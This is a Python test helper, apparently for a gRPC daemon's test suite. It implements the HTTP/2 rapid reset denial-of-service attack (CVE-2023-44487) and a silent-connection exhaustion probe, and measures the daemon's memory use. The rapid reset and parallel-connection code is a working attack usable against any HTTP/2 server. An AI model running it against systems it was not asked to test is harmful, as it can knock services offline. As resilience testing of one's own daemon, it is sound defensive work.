"""A probe of what one connection can cost the daemon: raw HTTP/2, no gRPC.

Two abuses, each usable from a test (import this module) or by hand:

* rapid reset (CVE-2023-44487): the client preface, an empty SETTINGS
  frame, then PAIRS of HEADERS (a gRPC call: :method POST, :path, te
  trailers, ...) and RST_STREAM (CANCEL) on odd, increasing stream ids,
  written in large batches. A reset stream does not count against the
  server's concurrent-stream cap, so nothing in HTTP/2 itself bounds it.
* silent connections: K connections that never send a byte. Each holds a
  descriptor and a place under --max_connections until the server closes
  it.

By hand (the daemon's RSS sampled from /proc/PID/status while it runs):

    /usr/bin/python3 client/python/tests/h2_abuse.py reset \\
        --address unix:/tmp/x/statecached.sock --pairs 100000 --pid PID
    /usr/bin/python3 client/python/tests/h2_abuse.py silent \\
        --address unix:/tmp/x/statecached.sock --count 8 --hold 30

Only the standard library: it must run wherever the tests run.
"""

import argparse
import select
import socket
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"

# Frame types and flags (RFC 9113, section 6).
_HEADERS = 0x1
_RST_STREAM = 0x3
_SETTINGS = 0x4
_PING = 0x6
_END_STREAM = 0x1
_END_HEADERS = 0x4
_ACK = 0x1
_CANCEL = 0x8

# A real method of the daemon's (proto/statecache/v1/statecache.proto).
PING_PATH = "/statecache.v1.StateCache/Ping"


def connect(address, timeout=5.0):
    """A connected stream socket to a gRPC address: unix:PATH,
    unix:///PATH, or HOST:PORT."""
    if address.startswith("unix:"):
        path = address[len("unix:"):]
        if path.startswith("//"):
            path = path[2:]
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        sock.settimeout(timeout)
        sock.connect(path)
    else:
        host, _, port = address.rpartition(":")
        sock = socket.create_connection((host.strip("[]"), int(port)),
                                        timeout=timeout)
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    sock.settimeout(timeout)
    return sock


def frame(kind, flags, stream_id, payload=b""):
    """One HTTP/2 frame: 24-bit length, type, flags, 31-bit stream id."""
    return (struct.pack(">I", len(payload))[1:] +
            struct.pack(">BBI", kind, flags, stream_id & 0x7FFFFFFF) +
            payload)


def _hpack_length(n):
    # A 7-bit-prefix integer with the Huffman bit clear (RFC 7541, 5.1).
    if n < 127:
        return bytes([n])
    out = bytearray([127])
    n -= 127
    while n >= 128:
        out.append((n & 0x7F) | 0x80)
        n >>= 7
    out.append(n)
    return bytes(out)


def hpack_literal(name, value):
    """A literal header field without indexing, new name (RFC 7541, 6.2.2):
    nothing enters the dynamic table, so every HEADERS block is the same."""
    name, value = name.encode(), value.encode()
    return (b"\x00" + _hpack_length(len(name)) + name +
            _hpack_length(len(value)) + value)


def call_headers(path=PING_PATH, authority="localhost"):
    """The header block of a gRPC call to `path`."""
    return b"".join(hpack_literal(n, v) for n, v in (
        (":method", "POST"), (":scheme", "http"), (":path", path),
        (":authority", authority), ("content-type", "application/grpc"),
        ("te", "trailers")))


def handshake():
    """The client preface, an empty SETTINGS frame, and the ACK of the
    server's SETTINGS (sent blind: the server always opens with them)."""
    return (PREFACE + frame(_SETTINGS, 0, 0) + frame(_SETTINGS, _ACK, 0))


def reset_pairs(first_stream, count, block, end_stream=False):
    """`count` HEADERS + RST_STREAM(CANCEL) pairs from stream `first_stream`
    (odd), each HEADERS carrying `block`."""
    flags = _END_HEADERS | (_END_STREAM if end_stream else 0)
    cancel = struct.pack(">I", _CANCEL)
    out = bytearray()
    stream = first_stream
    for _ in range(count):
        out += frame(_HEADERS, flags, stream, block)
        out += frame(_RST_STREAM, 0, stream, cancel)
        stream += 2
    return bytes(out)


class _Drain(threading.Thread):
    """Reads and discards what the server sends, so its writes never back
    up into its own memory; notes when the server closes the connection and
    when it acknowledges a PING (it has parsed every frame sent before)."""

    def __init__(self, sock):
        super().__init__(daemon=True)
        self.sock = sock
        self.closed_by_peer = threading.Event()
        self.ping_acked = threading.Event()
        self.received = 0

    def run(self):
        pending = b""
        while True:
            try:
                data = self.sock.recv(1 << 16)
            except socket.timeout:
                continue
            except OSError:
                data = b""
            if not data:
                self.closed_by_peer.set()
                return
            self.received += len(data)
            pending += data
            while len(pending) >= 9:
                length = int.from_bytes(pending[:3], "big")
                if len(pending) < 9 + length:
                    break
                if pending[3] == _PING and pending[4] & _ACK:
                    self.ping_acked.set()
                pending = pending[9 + length:]


class ResetResult:
    """What a rapid-reset burst did: pairs written before the server closed
    the connection (or all of them), and whether it closed it."""

    def __init__(self, pairs_sent, closed_by_peer, seconds):
        self.pairs_sent = pairs_sent
        self.closed_by_peer = closed_by_peer
        self.seconds = seconds

    def __repr__(self):
        return ("ResetResult(pairs_sent=%d, closed_by_peer=%s, "
                "seconds=%.2f)" % (self.pairs_sent, self.closed_by_peer,
                                   self.seconds))


def rapid_reset(address, pairs, path=PING_PATH, batch=2000, end_stream=False,
                wait_close=0.0, sock=None, wait_parsed=0.0):
    """Writes the preface and `pairs` HEADERS + RST_STREAM pairs to
    `address` in batches of `batch` pairs, draining the replies. Stops early
    when the server closes the connection. With `wait_parsed` > 0, then
    sends a PING and waits up to that many seconds for its ACK (the server
    has parsed the whole burst). With `wait_close` > 0, then waits up to
    that many seconds for the server to close it. Returns a ResetResult;
    the socket is closed."""
    sock = sock or connect(address)
    drain = _Drain(sock)
    drain.start()
    start = time.monotonic()
    sent = 0
    block = call_headers(path)
    try:
        sock.sendall(handshake())
        stream = 1
        while sent < pairs and not drain.closed_by_peer.is_set():
            n = min(batch, pairs - sent)
            sock.sendall(reset_pairs(stream, n, block, end_stream))
            stream += 2 * n
            sent += n
        if wait_parsed > 0 and not drain.closed_by_peer.is_set():
            sock.sendall(frame(_PING, 0, 0, b"h2abuse!"))
            deadline = time.monotonic() + wait_parsed
            while (not drain.ping_acked.wait(0.05) and
                   not drain.closed_by_peer.is_set() and
                   time.monotonic() < deadline):
                pass
    except OSError:
        drain.closed_by_peer.wait(1.0)
    if wait_close > 0:
        drain.closed_by_peer.wait(wait_close)
    closed = drain.closed_by_peer.is_set()
    elapsed = time.monotonic() - start
    try:
        sock.shutdown(socket.SHUT_RDWR)
    except OSError:
        pass
    sock.close()
    drain.join(2.0)
    return ResetResult(sent, closed, elapsed)


def open_silent(address, count):
    """`count` connections that never send anything. They may be closed by
    the server at once (over its cap) or later: see closed()."""
    return [connect(address) for _ in range(count)]


def closed(sock):
    """Whether the server closed `sock` (EOF or reset pending on it). Never
    blocks; what the server sent before closing is read and discarded."""
    while True:
        readable, _, _ = select.select([sock], [], [], 0)
        if not readable:
            return False
        try:
            data = sock.recv(1 << 16, socket.MSG_DONTWAIT)
        except BlockingIOError:
            return False
        except OSError:
            return True
        if not data:
            return True


def rss_bytes(pid, field="VmRSS"):
    """Resident memory of process `pid` (VmRSS), or its peak so far
    (field="VmHWM"), in bytes."""
    with open("/proc/%d/status" % pid) as status:
        for line in status:
            if line.startswith(field + ":"):
                return int(line.split()[1]) * 1024
    raise ValueError("no %s for pid %d" % (field, pid))


class RssSampler(threading.Thread):
    """The highest RSS of `pid` seen, sampled every `interval` seconds until
    stop()."""

    def __init__(self, pid, interval=0.02):
        super().__init__(daemon=True)
        self.pid = pid
        self.interval = interval
        self.peak = rss_bytes(pid)
        self._stop_event = threading.Event()

    def run(self):
        while not self._stop_event.wait(self.interval):
            try:
                self.peak = max(self.peak, rss_bytes(self.pid))
            except (OSError, ValueError):
                return

    def stop(self):
        self._stop_event.set()
        self.join()
        return self.peak


def _mib(n):
    return "%.1f MiB" % (n / (1 << 20))


def main(argv):
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    sub = parser.add_subparsers(dest="what", required=True)
    reset = sub.add_parser("reset", help="HEADERS + RST_STREAM bursts")
    reset.add_argument("--address", required=True)
    reset.add_argument("--pairs", type=int, default=100000)
    reset.add_argument("--path", default=PING_PATH)
    reset.add_argument("--batch", type=int, default=2000)
    reset.add_argument("--end_stream", action="store_true",
                       help="set END_STREAM on each HEADERS")
    reset.add_argument("--bursts", type=int, default=1)
    reset.add_argument("--connections", type=int, default=1,
                       help="bursts at once, each on its own connection")
    reset.add_argument("--pid", type=int, default=0,
                       help="the daemon's pid: report its RSS")
    reset.add_argument("--settle", type=float, default=2.0,
                       help="seconds to wait after each burst before the "
                       "RSS is read again")
    silent = sub.add_parser("silent", help="connections that never speak")
    silent.add_argument("--address", required=True)
    silent.add_argument("--count", type=int, default=8)
    silent.add_argument("--hold", type=float, default=30.0,
                        help="seconds to hold them, reporting closes")
    args = parser.parse_args(argv)

    if args.what == "silent":
        socks = open_silent(args.address, args.count)
        start = time.monotonic()
        open_ones = set(range(len(socks)))
        while open_ones and time.monotonic() - start < args.hold:
            for i in sorted(open_ones):
                if closed(socks[i]):
                    open_ones.discard(i)
                    print("connection %d closed by the server after %.2fs" %
                          (i, time.monotonic() - start))
            time.sleep(0.05)
        print("%d of %d still open after %.1fs" %
              (len(open_ones), len(socks), time.monotonic() - start))
        return 0

    if args.pid:
        print("rss before: %s" % _mib(rss_bytes(args.pid)))
    for burst in range(args.bursts):
        sampler = RssSampler(args.pid) if args.pid else None
        if sampler:
            sampler.start()
        results = [None] * args.connections

        def one(i):
            results[i] = rapid_reset(args.address, args.pairs, args.path,
                                     args.batch, args.end_stream,
                                     wait_close=1.0, wait_parsed=120.0)

        threads = [threading.Thread(target=one, args=(i,))
                   for i in range(args.connections)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        peak = sampler.stop() if sampler else 0
        print("burst %d: %s" % (burst, results))
        if args.pid:
            print("  peak rss during: %s" % _mib(peak))
            time.sleep(args.settle)
            print("  rss %.1fs after: %s" % (args.settle,
                                             _mib(rss_bytes(args.pid))))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
